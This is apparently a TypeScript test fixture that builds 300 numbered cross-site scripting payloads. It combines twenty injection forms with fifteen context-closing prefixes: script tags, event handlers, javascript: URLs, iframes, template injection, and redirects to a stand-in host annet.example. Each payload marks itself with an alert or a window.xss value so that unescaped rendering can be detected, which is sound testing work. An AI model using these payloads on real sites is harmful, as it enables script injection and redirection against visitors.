const does = (n: number) => `window.xss=${n};alert(${n})`;

/** Ways in: each would do something if a page ever took words for markup. */
const bodies: readonly ((n: number) => string)[] = [
  (n) => `<script>${does(n)}</script>`,
  (n) => `<img src=x onerror="${does(n)}">`,
  (n) => `<svg onload="${does(n)}">`,
  (n) => `<svg><script href="data:,${does(n)}"/></svg>`,
  (n) => `<iframe srcdoc="<script>parent.xss=${n}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.xss=${n}"></iframe>`,
  (n) => `<details open ontoggle="${does(n)}">`,
  (n) => `<video><source onerror="${does(n)}"></video>`,
  (n) => `<input autofocus onfocus="${does(n)}">`,
  (n) => `<math href="javascript:${does(n)}">x</math>`,
  (n) => `<object data="data:text/html,<script>xss=${n}</script>"></object>`,
  (n) => `<a href="javascript:${does(n)}" id=a${n}>x</a>`,
  (n) => `<form action="https://annet.example/${n}"><button>x</button></form>`,
  (n) => `<meta http-equiv="refresh" content="0;url=https://annet.example/${n}">`,
  (n) => `<base href="https://annet.example/${n}/">`,
  (n) => `<link rel="stylesheet" href="https://annet.example/${n}.css">`,
  (n) => `<style>*{background:url(https://annet.example/${n})}</style>`,
  (n) => `" onmouseover="${does(n)}" autofocus onfocus="${does(n)}" x="`,
  (n) => `{{constructor.constructor('${does(n)}')()}}`,
  (n) => `\${${does(n)}}`,
];

/** What would have to be closed first. */
const ends: readonly string[] = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "-->",
  "]]>",
  "</script>",
  "</style>",
  "</template>",
  "</dd></dl>",
  "\u202e",
  "&lt;b&gt;",
  "%3Cb%3E",
  "<!--",
];

/** Three hundred, each with its own number so that it is known again where it is shown. */
export const payloads: readonly string[] = ends.flatMap((end, i) =>
  bodies.map((body, j) => `${end}${body(i * bodies.length + j)} nr ${i * bodies.length + j}.`),
);
